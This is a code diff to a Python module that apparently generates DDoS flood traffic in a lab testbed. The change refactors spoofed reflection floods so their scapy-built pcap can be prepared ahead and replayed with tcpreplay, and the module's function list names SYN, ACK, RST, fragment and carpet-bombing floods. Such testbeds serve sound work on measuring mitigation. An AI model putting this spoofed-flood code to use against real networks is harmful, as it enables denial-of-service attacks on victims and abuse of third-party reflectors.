@@ -52,8 +52,9 @@ Flood: cls, family, tool, sent, t0, t1 (wall clock), cmd):
     syn_flood(al, family, spoofed=True)   udp_flood   icmp_flood(al)
     icmpv6_flood(al)   ack_flood   rst_flood   frag_flood
     reflection(al, service, family)       service in REFLECTION
+    reflection_pcap(al, service, family)  its packets, built ahead (pcap=)
     carpet_bombing(al, family, proto="udp"|"syn")
-    legit_mix(al, duration)               completed TCP, DNS-like UDP, bulk
+    legit_mix(al, duration, rate=None)    completed TCP, DNS-like UDP, bulk
     measure(al, name, family, **kw)       run one class, return a Result
     in_background(gen, al, ...)           a Future whose .result() is the Flood
     CLASSES                               name -> (families, generator, check)
@@ -326,13 +327,22 @@ def _trafgen(al, cls, family, packets, count, rate, duration, attacker="atk0"):
                  cmd=" ".join(cmd) + "  # " + conf.strip().replace("\n", " "))
 
 
-def _tcpreplay(al, cls, family, pkts, count, rate, duration, attacker="atk0", tool="scapy+tcpreplay"):
-    """Scapy-built frames (IP layer up) written to a pcap with Ethernet to
-    the router, replayed by tcpreplay in a loop up to count packets."""
+def _write_pcap(al, cls, family, pkts, attacker="atk0"):
+    """Scapy-built packets (IP layer up) into a pcap, with Ethernet from
+    the attacker to the router; returns its path."""
     from scapy.all import Ether, wrpcap  # noqa: E402  (slow import: only when used)
     smac, dmac = al.mac(attacker, al.aif[attacker]), al.gw_mac[attacker]
     path = al.tmpfile("%s-%d.pcap" % (cls, family))
     wrpcap(path, [Ether(src=smac, dst=dmac) / p for p in pkts])
+    return path
+
+
+def _tcpreplay(al, cls, family, pkts, count, rate, duration, attacker="atk0", tool="scapy+tcpreplay", path=None):
+    """Scapy-built frames (IP layer up) written to a pcap with Ethernet to
+    the router (or the pcap at `path`, written before), replayed by
+    tcpreplay in a loop up to count packets."""
+    if path is None:
+        path = _write_pcap(al, cls, family, pkts, attacker)
     cmd = ["tcpreplay", "-q", "-K", "-i", al.aif[attacker], "--limit=%d" % count, "--loop=0"]
     cmd += ["--pps=%d" % rate] if rate else ["--topspeed"]
     cmd.append(path)
@@ -489,11 +499,21 @@ def _reflection_payload(service, rng, ip_size, ipv6):
     raise ValueError(service)
 
 
-def reflection(al, service="dns", family=4, count=COUNT, rate=None, duration=4.0, n_reflectors=64, n_pkts=512):
+def reflection(al, service="dns", family=4, count=COUNT, rate=None, duration=4.0, n_reflectors=64, n_pkts=512,
+               pcap=None):
     """Responses of `service` from n_reflectors reflectors (spoofed pool)
     to the victim's addresses, random destination ports, sizes as in
     REFLECTION; bigger than the MTU they are fragmented as a real
-    reflector's kernel would (IPv6: fragment headers). scapy + tcpreplay."""
+    reflector's kernel would (IPv6: fragment headers). scapy + tcpreplay.
+    Building the packets takes seconds: pcap, from reflection_pcap() called
+    earlier, lets the flood start at once."""
+    if pcap is None:
+        pcap = reflection_pcap(al, service, family, n_reflectors, n_pkts)
+    return _tcpreplay(al, service, family, None, count, rate, duration, path=pcap)
+
+
+def reflection_pcap(al, service="dns", family=4, n_reflectors=64, n_pkts=512):
+    """The pcap reflection() replays; returns its path."""
     from scapy.all import IP, UDP, IPv6, IPv6ExtHdrFragment, Raw, fragment, fragment6  # noqa: E402
     port, (lo, hi) = REFLECTION[service]
     rng = al.rng
@@ -511,7 +531,7 @@ def reflection(al, service="dns", family=4, count=COUNT, rate=None, duration=4.0
             p = IPv6(src=refl[i % n_reflectors], dst=VICTIM6[i % 4], hlim=rng.randrange(40, 60)) / l4
             pkts += fragment6(IPv6(src=p.src, dst=p.dst, hlim=p.hlim) / IPv6ExtHdrFragment(id=rng.getrandbits(32)) /
                               l4, 1280) if len(p) > 1500 else [p]
-    return _tcpreplay(al, service, family, pkts, count, rate, duration)
+    return _write_pcap(al, service, family, pkts)
 
 
 def carpet_bombing(al, family=4, proto="udp", count=COUNT, rate=None, duration=4.0):
